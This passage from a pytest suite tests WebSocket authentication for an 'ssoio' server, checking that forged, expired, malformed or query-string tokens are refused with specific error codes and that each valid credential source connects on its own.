                          "Cookie": _cookie(n, k.token())}, ""), "signature_invalid"),
    ("RFC 6750 §2.1: Basic credentials beside a valid session cookie",
     lambda n, k: (None, {"Authorization": "Basic ZXJpbjpwYXNzd29yZA==",
                          "Cookie": _cookie(n, k.token())}, ""), "token_malformed"),
    ("RFC 6750 §2.1: an empty Bearer beside a valid session cookie",
     lambda n, k: (None, {"Authorization": "Bearer", "Cookie": _cookie(n, k.token())}, ""),
     "token_missing"),
    ("DESIGN.md: an expired auth.token beside a valid session cookie",
     lambda n, k: ({"token": k.token(exp=NOW - 600)}, {"Cookie": _cookie(n, k.token())}, ""),
     "token_expired"),
    ("README sessions: a forged session cookie", lambda n, k: (
        None, {"Cookie": "ssoio_session=" + secrets.token_urlsafe(32) + ".forged"}, ""),
     "token_missing"),
    ("README sessions: a cookie for a session that has ended", lambda n, k: (
        None, {"Cookie": _ended_cookie(n)}, ""), "token_missing"),
    ("RFC 6750 §2.3 / README: ?token= without insecure_allow_query_token",
     lambda n, k: (None, {}, "token=" + k.token()), "token_malformed"),
    ("RFC 6750 §2.3 / README: ?access_token= without insecure_allow_query_token",
     lambda n, k: (None, {}, "access_token=" + k.token()), "token_malformed"),
    ("README: ?token= beside a valid auth.token",
     lambda n, k: ({"token": k.token()}, {}, "token=" + k.token()), "token_malformed"),
]  # fmt: skip


def _ended_cookie(live: Node) -> str:
    login = live.server.login
    assert login is not None
    return f"ssoio_session={login.cookies.sign(secrets.token_urlsafe(32))}"


@pytest.mark.parametrize(("source", "present", "code"), PRECEDENCE,
                         ids=[p[0] for p in PRECEDENCE])  # fmt: skip
async def test_no_fall_through(
    live: Node, kit: Kit, source: str, present: Source, code: str
) -> None:
    auth, headers, query = present(live, kit)
    base = "EIO=4&transport=websocket"
    refusal = await live.refusal(auth, headers=headers, query=f"{base}&{query}" if query else base)
    assert refusal["data"]["code"] == code, (source, refusal)
    assert live.accepted() == 0
    await live.assert_healthy(also_secret=[h.split("=", 1)[-1] for h in headers.values()])


SOURCES: list[tuple[str, Source]] = [
    ("DESIGN.md: a valid Bearer header alone",
     lambda n, k: (None, {"Authorization": f"Bearer {k.token()}"}, "")),
    ("RFC 6750 §2.1: the Bearer scheme in lower case",
     lambda n, k: (None, {"Authorization": f"bearer {k.token()}"}, "")),
    ("DESIGN.md: a valid session cookie alone",
     lambda n, k: (None, {"Cookie": _cookie(n, k.token())}, "")),
    ("DESIGN.md: a valid auth.token beside a forged cookie",
     lambda n, k: ({"token": k.token()}, {"Cookie": "ssoio_session=forged"}, "")),
]  # fmt: skip


@pytest.mark.parametrize(("source", "present"), SOURCES, ids=[s[0] for s in SOURCES])
async def test_each_source_alone_works(live: Node, kit: Kit, source: str, present: Source) -> None:
    auth, headers, _ = present(live, kit)
    answer = await live.connect(auth, headers=headers)
    assert answer.type == CONNECT, (source, answer.raw)
    await live.assert_healthy()
